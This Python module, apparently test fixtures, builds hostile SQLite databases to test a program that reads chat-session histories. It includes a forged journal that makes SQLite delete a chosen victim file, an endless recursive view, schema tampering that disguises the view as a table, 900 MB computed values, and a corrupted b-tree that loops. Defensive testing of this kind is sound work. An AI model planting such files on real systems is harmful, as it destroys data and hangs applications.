"""SQLite files that a stranger made so that the library that opens them does harm."""

from __future__ import annotations

import sqlite3
import struct
from contextlib import closing
from pathlib import Path

MAGIC = bytes.fromhex("d9d505f920a163d7")
SECTOR = 512
TABLES = """
    CREATE TABLE sessions (id TEXT PRIMARY KEY, source TEXT, model TEXT, parent_session_id TEXT,
        started_at REAL, title TEXT);
    CREATE TABLE messages (id INTEGER PRIMARY KEY, session_id TEXT, role TEXT, content TEXT,
        tool_call_id TEXT, tool_calls TEXT, timestamp REAL, active INTEGER);
"""
ROWS = """
    INSERT INTO sessions (id, source) VALUES ('cli', 'cli');
    INSERT INTO messages (session_id, role, content) VALUES ('cli', 'user', 'in the database');
"""
ENDLESS = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n)"


def made(path: Path, *scripts: str) -> Path:
    """Make a database by these scripts."""
    with closing(sqlite3.connect(path)) as database:
        for script in scripts:
            database.executescript(script)
    return path


def with_super_journal(path: Path, victim: Path) -> Path:
    """Make a database whose journal says that the transaction of several files ended that `victim` is of.

    SQLite then plays the journal back, and removes the victim.
    """
    made(path, TABLES, ROWS)
    pages = path.stat().st_size // 4096
    name = str(victim).encode()
    header = MAGIC + struct.pack(">5I", 0, 0, pages, SECTOR, 4096)
    ends = struct.pack(">I", 0x40000000 // 4096 + 1) + name + struct.pack(">2I", len(name), sum(name)) + MAGIC
    path.with_name(f"{path.name}-journal").write_bytes(header.ljust(SECTOR, b"\0") + ends)
    return path


def with_endless_view(path: Path) -> Path:
    """Make a database in which `sessions` is a view without end."""
    return made(
        path,
        TABLES,
        "DROP TABLE sessions",
        f"CREATE VIEW sessions AS {ENDLESS} SELECT 'a' || i AS id, 'cli' AS source FROM n",
    )


def with_misnamed_view(path: Path) -> Path:
    """Make the same, but the list of tables says of the view that it is a table of another name."""
    with_endless_view(path)
    return made(
        path,
        "PRAGMA writable_schema = ON;"
        "UPDATE sqlite_master SET type = 'table', name = 'harmless', tbl_name = 'harmless' "
        "WHERE name = 'sessions';"
        "INSERT INTO sqlite_master SELECT 'table', 'sessions', 'sessions', rootpage, "
        "'CREATE TABLE other (id)' FROM sqlite_master WHERE name = 'messages';",
    )


def with_large_values(path: Path) -> Path:
    """Make a database of which each message has a value of 900 MB, which is computed when it is read."""
    return made(
        path,
        TABLES,
        ROWS,
        "ALTER TABLE messages ADD COLUMN large AS (zeroblob(900000000))",
    )


def with_virtual_table(path: Path) -> Path:
    """Make a database in which `messages` is a table whose rows a module of SQLite makes up."""
    return made(path, TABLES, ROWS, "DROP TABLE messages; CREATE VIRTUAL TABLE messages USING fts5(content)")


def with_repeated_pages(path: Path) -> Path:
    """Make a small database with a table whose tree leads to the same rows hundreds of times."""
    size = 4096
    made(
        path,
        f"PRAGMA page_size = {size}",
        TABLES,
        f"{ENDLESS} INSERT INTO messages (id) SELECT i FROM n LIMIT 1000",
        "INSERT INTO sessions (id, source) VALUES ('cli', 'cli')",
    )
    with closing(sqlite3.connect(path)) as database:
        root = database.execute("SELECT rootpage FROM sqlite_master WHERE name = 'messages'").fetchone()[0]
    content = bytearray(path.read_bytes())
    start = (root - 1) * size
    assert content[start] == 5  # an inner page
    child = struct.unpack_from(">I", content, start + struct.unpack_from(">H", content, start + 12)[0])[0]
    # Each cell is the number of a page and a row id; all are of the same page, and never end.
    cell = struct.pack(">I", child) + b"\x01"
    count = (size - 12) // (2 + 5) - 1
    content[start : start + size] = bytes(size)
    struct.pack_into(">BHHHBI", content, start, 5, 0, count, (size - 5) & 0xFFFF, 0, child)
    for number in range(count):
        struct.pack_into(">H", content, start + 12 + 2 * number, size - 5)
    content[start + size - 5 : start + size] = cell
    path.write_bytes(content)
    return path
